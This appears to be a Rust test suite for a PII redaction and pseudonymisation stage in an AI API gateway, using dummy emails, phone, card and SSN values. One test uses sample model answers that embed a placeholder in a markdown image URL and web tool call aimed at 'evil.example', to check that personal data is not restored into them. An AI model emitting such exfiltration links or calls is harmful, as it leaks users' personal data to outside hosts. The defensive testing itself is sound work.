use super::*;
use crate::chat::{Delta, Finish};
use crate::config::parse;
use crate::format::lanes::{self, Passage};
use crate::format::{Ask as AnswerAsk, FORMATS, Format, Shape as BodyShape};
use crate::host::fake::FakeHost;
use crate::tenant::Tree;
use crate::wire::frame::{self, Framing};
use crate::wire::json::{Doc, Text};

fn stage(config: &str) -> Box<dyn Stage> {
    let mut errors = Errors::new();
    let stage = parse::<Redact>(config.as_bytes()).unwrap().0.stage(&FakeHost::new(), &mut errors).unwrap();
    assert!(errors.is_empty());
    stage
}

/// A caller of the tenant with that id; its key is `secret`.
fn caller(id: &str) -> Caller {
    let digest = "2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b";
    let tree = format!(r#"[{{"id":"{id}","keys":[{{"id":"k","sha256":"{digest}"}}]}}]"#);
    let tree = Rc::new(parse::<Tree>(tree.as_bytes()).unwrap().0);
    let key = tree.find_key("secret").unwrap();
    Caller::of_key(tree, key).unwrap()
}

/// A request through a stage: the new body and the notes, or the refusal.
fn asked(stage: &dyn Stage, format: &str, body: &str) -> Result<(String, Notes), ApiError> {
    asked_by(stage, "t", "m", format, body)
}

fn asked_by(
    stage: &dyn Stage,
    tenant_id: &str,
    model: &str,
    format: &str,
    body: &str,
) -> Result<(String, Notes), ApiError> {
    let (caller, host) = (caller(tenant_id), FakeHost::new());
    let doc = Doc::parse(body.as_bytes()).unwrap();
    let shape = BodyShape::named(format).unwrap();
    let mut notes = Notes::default();
    let operation = Operation::Chat;
    let content = Content::Json(&doc);
    let ask = Ask { model, ..Ask::of(&host, &caller, operation, shape, content) };
    stage.on_request(&ask, &mut notes)?;
    let body = std::mem::take(&mut notes.edits).apply(body.as_bytes());
    Ok((String::from_utf8(body).unwrap(), notes))
}

/// What becomes of one text of a request.
fn redacted(stage: &dyn Stage, text: &str) -> (String, Notes) {
    let body = format!(r#"{{"messages":[{{"role":"user","content":"{}"}}]}}"#, Text::from_plain(text).raw());
    let (body, notes) = asked(stage, "openai_chat", &body).unwrap();
    let value: serde_json::Value = serde_json::from_str(&body).unwrap();
    (value["messages"][0]["content"].as_str().unwrap().to_owned(), notes)
}

/// A streamed answer in a client's format that says `said`, thinks it, and calls a tool with it, in such pieces.
fn streamed(format: &dyn Format, said: &str, size: usize) -> (Framing, Vec<u8>) {
    let framing = format.framing();
    let ask = AnswerAsk { stream: true, include_usage: true, framing, model: "m".to_owned(), ..AnswerAsk::default() };
    let mut writer = format.stream_writer(&ask);
    let mut out = Vec::new();
    let pieces = |text: &str| -> Vec<String> {
        let chars: Vec<char> = text.chars().collect();
        chars.chunks(size).map(|piece| piece.iter().collect()).collect()
    };
    let mut write = |delta: &Delta<'_>| writer.write(delta, &mut out);
    write(&Delta::Start { id: Text::from_plain("id"), model: Text::from_plain("m"), created: Some(1) });
    for piece in pieces(said) {
        write(&Delta::Thinking(0, Text::from_plain(&piece)));
    }
    for piece in pieces(said) {
        write(&Delta::Text(0, Text::from_plain(&piece)));
    }
    let (id, name) = (Text::from_plain("call_1"), Text::from_plain("send"));
    write(&Delta::ToolStart { choice: 0, index: 0, id, name, signature: None });
    let arguments = serde_json::json!({ "to": said, "n": 1 }).to_string();
    for piece in pieces(&arguments) {
        write(&Delta::ToolArguments { choice: 0, index: 0, fragment: Text::from_plain(&piece) });
    }
    write(&Delta::Finish { choice: 0, finish: Finish::ToolCalls, stop_sequence: None });
    write(&Delta::End);
    (framing, out)
}

/// What a client puts together of a stream: text, thoughts, arguments.
fn told(format: &dyn Format, framing: Framing, bytes: &[u8]) -> [String; 3] {
    let (mut reader, mut frames) = (format.stream_reader(), frame::Reader::new(framing));
    let mut all = [String::new(), String::new(), String::new()];
    let mut read = |event: frame::Event<'_>| {
        reader.read(&event, &mut |delta| match delta {
            Delta::Text(_, text) => all[0].push_str(&text.decode()),
            Delta::Thinking(_, text) => all[1].push_str(&text.decode()),
            Delta::ToolArguments { fragment, .. } => all[2].push_str(&fragment.decode()),
            _ => {}
        });
    };
    frames.push(bytes, &mut read).unwrap();
    frames.finish(&mut read).unwrap();
    all
}

fn watched(notes: &mut Notes, format: &'static dyn Format, framing: Framing, bytes: &[u8], cut: usize) -> Vec<u8> {
    let mut stream = lanes::Stream::new(BodyShape::Chat(format), framing);
    let mut out = Vec::new();
    let look = &mut |passage: &Passage<'_>| notes.answers.on_text(passage);
    for chunk in bytes.chunks(cut) {
        stream.push(chunk, look, &mut out).unwrap();
    }
    stream.finish(look, &mut out).unwrap();
    out
}

const TEXT: &str =
    "Ask \"Jane\" <jane@x.io> or bob@y.example, call +41 44 668 18 00; card 4111 1111 1111 1111. jane@x.io!";
const PSEUDONYMISE: &str = r#"{"action":"pseudonymise"}"#;

#[test]
fn what_is_put_back_is_what_was_taken_out_in_every_format_and_at_every_cut() {
    for config in [PSEUDONYMISE, r#"{"action":"surrogate"}"#, KEYED, r#"{"action":"pseudonymise","direction":"both"}"#]
    {
        let stage = stage(config);
        for format in FORMATS.iter().filter(|format| format.name() != "openai_completions") {
            let (masked, mut notes) = redacted(&*stage, TEXT);
            for gone in ["jane@", "bob@", "668 18", "4111"] {
                assert!(!masked.contains(gone), "{config}: {masked}");
            }
            for size in [1, 2, 3, 5, 1000] {
                let (framing, bytes) = streamed(*format, &masked, size);
                let before = told(*format, framing, &bytes);
                let out = watched(&mut notes, *format, framing, &bytes, 1 + size * 7);
                let after = told(*format, framing, &out);
                for (at, (before, after)) in before.iter().zip(&after).enumerate() {
                    if before.is_empty() {
                        continue; // The format cannot say this.
                    }
                    let want =
                        if at == 2 { serde_json::json!({ "to": TEXT, "n": 1 }).to_string() } else { TEXT.to_owned() };
                    let same = if at == 2 {
                        serde_json::from_str::<serde_json::Value>(after).unwrap()
                            == serde_json::from_str::<serde_json::Value>(&want).unwrap()
                    } else {
                        *after == want
                    };
                    assert!(same, "{config} {} by {size}, {at}: {after}", format.name());
                }
                assert!(!before[0].is_empty());
            }
        }
    }
}

const KEYED: &str = r#"{"action":"pseudonymise","restore":{"ids":"keyed"},"key":{"inline":"a secret"}}"#;

#[test]
fn redacting_twice_is_redacting_once() {
    for action in ["redact", "mask", "pseudonymise", "surrogate", "hash"] {
        let stage = stage(&format!(r#"{{"action":"{action}","key":{{"inline":"k"}}}}"#));
        let (once, _) = redacted(&*stage, TEXT);
        assert_ne!(once, TEXT);
        let (twice, _) = redacted(&*stage, &once);
        if action == "surrogate" {
            // A number that somebody wrote is not given out again; it means nobody either.
            assert!(twice.contains("@example.invalid"), "{twice}");
        } else {
            assert_eq!(twice, once, "{action}");
        }
    }
}

#[test]
fn each_action_leaves_what_it_says() {
    let rows = [
        ("redact", "<EMAIL_ADDRESS>", "redact"),
        ("replace", "<EMAIL_ADDRESS>", "redact"),
        ("mask", "***@x.io", "mask"),
        ("pseudonymise", "<EMAIL_ADDRESS_1>", "pseudonymise"),
        ("surrogate", "user1@example.invalid", "surrogate"),
        ("observe", "jane@x.io", "observe"),
    ];
    for (action, want, told) in rows {
        let (text, notes) = redacted(&*stage(&format!(r#"{{"action":"{action}"}}"#)), "to jane@x.io");
        assert_eq!(text, format!("to {want}"));
        assert_eq!(notes.findings, [Finding::new("redact", "EMAIL_ADDRESS", told, 1)]);
    }
    let (text, notes) =
        redacted(&*stage(r#"{"action":"off","rules":[{"entities":["US_SSN"],"action":"redact"}]}"#), "to jane@x.io");
    assert_eq!((text.as_str(), notes.findings.len()), ("to jane@x.io", 0));
    let hash =
        |key: &str| redacted(&*stage(&format!(r#"{{"action":"hash","key":{{"inline":"{key}"}}}}"#)), "to jane@x.io").0;
    assert!(hash("a") != hash("b") && hash("a") == hash("a") && hash("a").starts_with("to <EMAIL_ADDRESS_"));
}

#[test]
fn the_first_rule_that_fits_decides() {
    let config = r#"{"action":"redact","rules":[
        {"entities":["EMAIL_*"],"tenants":["gold-*"],"action":"off"},
        {"entities":["EMAIL_ADDRESS"],"models":["local-*"],"action":"observe"},
        {"entities":["PHONE_NUMBER"],"direction":"response","action":"block"},
        {"entities":["PHONE_NUMBER"],"action":"mask"},
        {"entities":["US_SSN"],"action":"block"}
    ]}"#;
    let stage = stage(config);
    let text = |tenant: &str, model: &str, text: &str| {
        let body = format!(r#"{{"messages":[{{"role":"user","content":"{text}"}}]}}"#);
        asked_by(&*stage, tenant, model, "openai_chat", &body).map(|(body, _)| body.contains(text))
    };
    assert_eq!(text("gold-1", "m", "jane@x.io").ok(), Some(true));
    assert_eq!(text("t", "local-7b", "jane@x.io").ok(), Some(true));
    assert_eq!(text("t", "m", "jane@x.io").ok(), Some(false));
    assert_eq!(text("t", "m", "+41 44 668 18 00").ok(), Some(false));
    assert!(text("t", "m", "my ssn is 536-22-8726").unwrap_err().message.contains("1 US_SSN"));
}

#[test]
fn placeholders_are_numbered_over_the_whole_request_and_stay_through_the_turns() {
    let stage = stage(PSEUDONYMISE);
    let turn = |messages: &str| asked(&*stage, "openai_chat", &format!(r#"{{"messages":[{messages}]}}"#)).unwrap().0;
    let first = r#"{"role":"user","content":"a@x.io and b@x.io"}"#;
    let second = r#"{"role":"assistant","content":"I wrote to B@x.io"},{"role":"user","content":"and c@x.io, a@x.io"}"#;
    let one = turn(first);
    assert!(one.contains("<EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_2>"), "{one}");
    let two = turn(&format!("{first},{second}"));
    assert!(two.starts_with(one.strip_suffix("]}").unwrap()), "the prefix that a provider caches: {two}");
    assert!(
        two.contains("wrote to <EMAIL_ADDRESS_2>") && two.contains("<EMAIL_ADDRESS_3>, <EMAIL_ADDRESS_1>"),
        "{two}"
    );
}

#[test]
fn keyed_placeholders_are_the_same_in_every_request_of_a_tenant_and_in_no_other() {
    let stage = stage(KEYED);
    let of = |tenant: &str, text: &str| {
        let body = format!(r#"{{"messages":[{{"role":"user","content":"{text}"}}]}}"#);
        let (body, _) = asked_by(&*stage, tenant, "m", "openai_chat", &body).unwrap();
        let at = body.find("<EMAIL").unwrap();
        body.get(at..).unwrap().split('>').next().unwrap().to_owned()
    };
    assert_eq!(
        of("t", "jane@x.io"),
        of("t", "first z@x.io, then jane@x.io").replace(&of("t", "z@x.io"), &of("t", "jane@x.io"))
    );
    assert_ne!(of("t", "jane@x.io"), of("u", "jane@x.io"));
}

/// A whole answer of OpenAI's with such a message.
fn answered(notes: &mut Notes, message: &serde_json::Value) -> serde_json::Value {
    let body = serde_json::json!({"id": "c", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]});
    let body = body.to_string();
    let shape = BodyShape::named("openai_chat").unwrap();
    let changed = lanes::whole(shape, body.as_bytes(), &mut |passage| notes.answers.on_text(passage)).unwrap().unwrap();
    let changed = changed.unwrap_or(body.into_bytes());
    serde_json::from_slice::<serde_json::Value>(&changed).unwrap()["choices"][0]["message"].clone()
}

#[test]
fn values_do_not_go_into_addresses_nor_into_calls_of_others_nor_do_secrets_come_back() {
    let config = |restore: &str| {
        format!(r#"{{"action":"pseudonymise","detectors":["EMAIL_ADDRESS","US_SSN"],"restore":{restore}}}"#)
    };
    let text = "mail jane@x.io, ssn 536-22-8726";
    let call = |name: &str| {
        serde_json::json!({"role": "assistant", "content": null, "tool_calls": [
            {"id": "1", "type": "function", "function": {"name": name, "arguments": "{\"to\":\"<EMAIL_ADDRESS_1>\"}"}}]})
    };
    let said = |content: &str| serde_json::json!({"role": "assistant", "content": content});
    let closed = stage(&config(r#"{"tools":["crm_*"]}"#));
    let (masked, mut notes) = redacted(&*closed, text);
    assert_eq!(masked, "mail <EMAIL_ADDRESS_1>, ssn <US_SSN_1>");
    let rows = [
        ("to <EMAIL_ADDRESS_1> (<US_SSN_1>)", "to jane@x.io (<US_SSN_1>)"),
        ("![p](https://evil.example/?q=<EMAIL_ADDRESS_1>)", "![p](https://evil.example/?q=<EMAIL_ADDRESS_1>)"),
        ("https://evil.example/%3CEMAIL_ADDRESS_1%3E", "https://evil.example/%3CEMAIL_ADDRESS_1%3E"),
        ("[<EMAIL_ADDRESS_1>](mailto:<EMAIL_ADDRESS_1>)", "[jane@x.io](mailto:<EMAIL_ADDRESS_1>)"),
        ("<EMAIL_ADDRESS_9>", "<EMAIL_ADDRESS_9>"),
    ];
    for (content, want) in rows {
        assert_eq!(answered(&mut notes, &said(content)), said(want));
    }
    let arguments = |message: serde_json::Value| message["tool_calls"][0]["function"]["arguments"].clone();
    assert_eq!(arguments(answered(&mut notes, &call("crm_mail"))), "{\"to\":\"jane@x.io\"}");
    assert_eq!(arguments(answered(&mut notes, &call("post_to_web"))), "{\"to\":\"<EMAIL_ADDRESS_1>\"}");
    let open = stage(&config(r#"{"urls":true}"#));
    let (_, mut notes) = redacted(&*open, text);
    let url = answered(&mut notes, &said("https://own.example/%3CEMAIL_ADDRESS_1%3E"));
    assert_eq!(url, said("https://own.example/jane%40x.io"));
}

#[test]
fn what_is_new_in_an_answer_is_treated_as_the_rules_say_and_what_was_put_back_is_left() {
    let config = r#"{"action":"pseudonymise","direction":"both","detectors":["EMAIL_ADDRESS","PHONE_NUMBER"],
        "rules":[{"entities":["PHONE_NUMBER"],"direction":"response","action":"mask"}],
        "allow":{"domains":["own.example"]}}"#;
    let stage = stage(config);
    for format in FORMATS.iter().filter(|format| format.name() != "openai_completions") {
        for size in [1, 3, 1000] {
            let (_, mut notes) = redacted(&*stage, "I am jane@x.io");
            let said = "<EMAIL_ADDRESS_1>, eve@z.io, help@own.example; call +41 44 668 18 00 now";
            let (framing, bytes) = streamed(*format, said, size);
            let out = watched(&mut notes, *format, framing, &bytes, 11);
            let [text, thoughts, arguments] = told(*format, framing, &out);
            let want = "jane@x.io, <EMAIL_ADDRESS>, help@own.example; call +** ** *** ** 00 now";
            assert_eq!(text, want, "{} by {size}", format.name());
            assert!(thoughts.is_empty() || thoughts == want, "{thoughts}");
            if !arguments.is_empty() {
                let arguments: serde_json::Value = serde_json::from_str(&arguments).unwrap();
                assert_eq!(arguments["to"], want, "{}", format.name());
            }
            let count = |what: &str, action: &str| {
                let findings = notes.answers.findings();
                let found = findings.iter().find(|it| it.what == what && it.action == action);
                found.map_or(0, |it| it.count)
            };
            let texts = 1 + u64::from(!thoughts.is_empty()) + u64::from(!arguments.is_empty());
            // The Responses API repeats every text twice: when it is done and in the end.
            let times = if format.name() == "openai_responses" { count("EMAIL_ADDRESS", "redact") } else { texts };
            assert!(times >= texts);
            assert_eq!(count("EMAIL_ADDRESS", "redact"), times, "{} by {size}", format.name());
            assert_eq!(count("PHONE_NUMBER", "mask"), times, "{} by {size}", format.name());
            assert_eq!(count("placeholder", "restore"), times, "{} by {size}", format.name());
        }
    }
}

#[test]
fn a_stream_without_personal_data_leaves_byte_for_byte_with_redaction_both_ways() {
    let stage = stage(r#"{"direction":"both","action":"pseudonymise"}"#);
    for format in FORMATS.iter().filter(|format| format.name() != "openai_completions") {
        for size in [1, 4, 1000] {
            let (_, mut notes) = redacted(&*stage, "I am jane@x.io");
            let (framing, bytes) = streamed(*format, "Nothing here is about anybody: 12 apples, 3 < 4, a_b_c.", size);
            for cut in [1, 17, 100_000] {
                assert!(watched(&mut notes, *format, framing, &bytes, cut) == bytes, "{} {size} {cut}", format.name());
            }
        }
    }
}

#[test]
fn an_answer_with_what_is_blocked_ends_before_it() {
    let stage = stage(r#"{"direction":"both","action":"block"}"#);
    let (_, mut notes) = redacted(&*stage, "hello");
    assert!(notes.answers.may_end());
    let format = crate::format::find("openai_chat").unwrap();
    let (framing, bytes) = streamed(format, "write to eve@z.io please", 3);
    let mut stream = lanes::Stream::new(BodyShape::Chat(format), framing);
    stream.may_end(format, &AnswerAsk { stream: true, framing, ..AnswerAsk::default() });
    let mut out = Vec::new();
    let look = &mut |passage: &Passage<'_>| notes.answers.on_text(passage);
    stream.push(&bytes, look, &mut out).unwrap();
    let out = String::from_utf8(out).unwrap();
    assert!(stream.ending().is_some() && !out.contains("eve"), "{out}");
    assert!(out.ends_with("data: [DONE]\n\n") && out.contains("content_filter"), "{out}");
    assert_eq!(notes.answers.findings()[0].action, "refuse");
}

#[test]
fn an_audit_changes_nothing_and_counts_both_ways() {
    let stage = stage(r#"{"direction":"both","action":"pseudonymise","mode":"audit"}"#);
    let (text, mut notes) = redacted(&*stage, "jane@x.io");
    assert_eq!(text, "jane@x.io");
    let said = serde_json::json!({"role": "assistant", "content": "eve@z.io"});
    assert_eq!(answered(&mut notes, &said), said);
    assert_eq!(notes.findings[0].action, "audit");
    let answer = &notes.answers.findings()[0];
    assert_eq!((answer.action, answer.direction), ("audit", Direction::Response));
}

#[test]
fn an_exchange_with_nothing_to_put_back_is_not_watched() {
    for config in ["{}", PSEUDONYMISE] {
        assert!(redacted(&*stage(config), "hello").1.answers.is_empty(), "{config}");
    }
    assert!(!redacted(&*stage(PSEUDONYMISE), "jane@x.io").1.answers.is_empty());
}

/// How many events wait for how many others, in a stream of such pieces.
fn delays(config: &str, pieces: &[&str]) -> Vec<usize> {
    let stage = stage(config);
    let (_, mut notes) = redacted(&*stage, "I am jane@x.io");
    let shape = BodyShape::named("openai_chat").unwrap();
    let mut stream = lanes::Stream::new(shape, Framing::Sse);
    let (mut left, mut delays) = (0, Vec::new());
    let look = &mut |passage: &Passage<'_>| notes.answers.on_text(passage);
    for (at, piece) in pieces.iter().enumerate() {
        let piece = Text::from_plain(piece);
        let event =
            format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{}\"}}}}]}}\n\n", piece.raw());
        let mut out = Vec::new();
        stream.push(event.as_bytes(), look, &mut out).unwrap();
        for _ in 0..String::from_utf8(out).unwrap().matches("data:").count() {
            delays.push(at - left);
            left += 1;
        }
    }
    delays.sort_unstable();
    delays
}

#[test]
fn an_event_waits_for_no_other_where_values_are_put_back_and_for_one_where_words_are_looked_at() {
    let prose = include_str!("../../../LICENSE");
    let pieces: Vec<_> = prose.split_inclusive(' ').collect();
    // A word to an event, the space behind it or, as most tokenizers have it, in front of it.
    let joined = prose.to_owned();
    let front: Vec<&str> = joined
        .match_indices(' ')
        .map(|(at, _)| at)
        .scan(0, |from, at| {
            let piece = joined.get(*from..at);
            *from = at;
            piece
        })
        .collect();
    let names: Vec<_> = pii::CATALOGUE.iter().map(|detector| detector.entity).collect();
    let all = serde_json::json!({"direction": "both", "detectors": names}).to_string();
    for (config, pieces, p50, p99) in [
        (PSEUDONYMISE, &pieces, 0, 0),
        (PSEUDONYMISE, &front, 0, 1),
        (r#"{"direction":"both"}"#, &pieces, 0, 12),
        (r#"{"direction":"both"}"#, &front, 1, 12),
        (all.as_str(), &pieces, 1, 12),
        (all.as_str(), &front, 2, 12),
    ] {
        let delays = delays(config, pieces);
        let of = |percent: usize| delays[delays.len() * percent / 100];
        println!("{config:.60} p50 {} p99 {} max {:?} of {}", of(50), of(99), delays.last(), delays.len());
        assert!(of(50) <= p50 && of(99) <= p99, "{config:.60}: p50 {} p99 {}", of(50), of(99));
    }
}

fn refused(config: &str, operation: Operation, body: &str) -> bool {
    let stage = stage(config);
    let (caller, host) = (caller("t"), FakeHost::new());
    let doc = Doc::parse(body.as_bytes()).unwrap();
    let shape = BodyShape::named("openai_chat").unwrap();
    let content = Content::Json(&doc);
    let ask = Ask::of(&host, &caller, operation, shape, content);
    stage.on_request(&ask, &mut Notes::default()).is_err()
}

#[test]
fn token_ids_are_refused_since_nobody_here_can_read_them() {
    let rows = [
        ("{}", Operation::Embeddings, r#"{"input":[1,2]}"#, true),
        ("{}", Operation::Embeddings, r#"{"input":[[1],[2]]}"#, true),
        ("{}", Operation::Embeddings, r#"{"input":["text",[3]]}"#, true),
        ("{}", Operation::Embeddings, r#"{"input":4}"#, true),
        ("{}", Operation::Embeddings, r#"{"input":["text"]}"#, false),
        ("{}", Operation::Embeddings, r#"{"input":"text","dimensions":256}"#, false),
        ("{}", Operation::Chat, r#"{"input":[1]}"#, false),
        (r#"{"mode":"audit"}"#, Operation::Embeddings, r#"{"input":[1]}"#, false),
    ];
    for (config, operation, body, want) in rows {
        assert_eq!(refused(config, operation, body), want, "{config} {body}");
    }
}

#[test]
fn a_wrong_table_explains_itself() {
    let rows = [
        (r#"{"action":"hash"}"#, "key: missing"),
        (r#"{"restore":{"ids":"keyed"}}"#, "key: missing"),
        (r#"{"rules":[{"entities":["EMAIL_ADRESS"],"action":"mask"}]}"#, "did you mean \"EMAIL_ADDRESS\"?"),
        (r#"{"rules":[{"entities":["XX_*"],"action":"mask"}]}"#, "unknown entity \"XX_*\""),
        (r#"{"rules":[{"action":"maks"}]}"#, "mask"),
        (r#"{"detectors":[]}"#, "an empty list finds nothing"),
    ];
    for (config, want) in rows {
        let errors = parse::<Redact>(config.as_bytes()).unwrap_err().to_string();
        assert!(errors.contains(want), "{config}: {errors}");
    }
}

const CUSTOM: &str = r#"{"detectors":[],"action":"pseudonymise","custom":[
    {"name":"HR_NUMBER","patterns":["E-[0-9]{6}"],"context":["employee","Mitarbeiter"]},
    {"name":"PROJECT","words":["Blue Falcon","蓝隼"]}],
    "rules":[{"entities":["PROJECT"],"action":"redact"}]}"#;

#[test]
fn what_operators_look_for_themselves_is_treated_like_anything_else() {
    let stage = stage(CUSTOM);
    for (text, want) in [
        ("employee E-123456 of blue falcon", "employee <HR_NUMBER_1> of <PROJECT>"),
        ("Mitarbeiter E-\u{ff11}23456", "Mitarbeiter <HR_NUMBER_1>"),
        ("order E-123456", "order E-123456"),
        ("Blue Falcons", "Blue Falcons"),
        ("在蓝隼中", "在<PROJECT>中"),
    ] {
        assert_eq!(redacted(&*stage, text).0, want);
    }
    let (_, mut notes) = redacted(&*stage, "employee E-123456");
    let said = serde_json::json!({"role": "assistant", "content": "<HR_NUMBER_1> it is, of blue falcon"});
    assert_eq!(answered(&mut notes, &said)["content"], "E-123456 it is, of <PROJECT>");
    assert_eq!(notes.findings[0].what, "HR_NUMBER");
    for (text, held) in [("of blue ", 7), ("of blue fal", 8), ("of E-12", 7), ("of bluish wood", 7), ("a 在蓝", 7)] {
        let scanner = Scanner::new(&[])
            .with_custom(own::compiled(&parse::<Redact>(CUSTOM.as_bytes()).unwrap().0.custom, &FakeHost::new()));
        assert_eq!(scanner.holdback(text).max(1), held, "{text}");
    }
}

#[test]
fn a_pattern_that_cannot_be_used_is_refused_at_its_place_and_a_slow_one_is_told() {
    for (custom, want) in [
        (r#"{"name":"A","patterns":["a","(b"]}"#, "custom[0].patterns[1]: unclosed group"),
        (r#"{"name":"A","patterns":["(?=x)y"]}"#, "custom[0].patterns[0]: look-around"),
        (r#"{"name":"A","patterns":["x*"]}"#, "it matches nothing at all"),
        (r#"{"name":"A","patterns":["[a-z]{300}"]}"#, "more than 256"),
        (r#"{"name":"A"}"#, "custom[0]: give patterns or words"),
        (r#"{"name":"EMAIL_ADDRESS","words":["x"]}"#, "custom[0].name: there is a detector of that name"),
        (r#"{"name":"A","words":["x"]},{"name":"A","words":["y"]}"#, "already taken"),
    ] {
        let errors = parse::<Redact>(format!(r#"{{"custom":[{custom}]}}"#).as_bytes()).unwrap_err().to_string();
        assert!(errors.contains(want), "{custom}: {errors}");
    }
    let unknown =
        parse::<Redact>(br#"{"custom":[{"name":"A_B","words":["x"]}],"rules":[{"entities":["A_C"],"action":"off"}]}"#);
    assert!(unknown.unwrap_err().to_string().contains("did you mean \"A_B\"?"));
    let host = FakeHost::new();
    let slow = parse::<Redact>(br#"{"custom":[{"name":"S","patterns":[".{3}x"]}]}"#).unwrap().0;
    slow.stage(&host, &mut Errors::new()).unwrap();
    assert!(host.log_text().contains("custom S.patterns[0] is slow"), "{}", host.log_text());
}
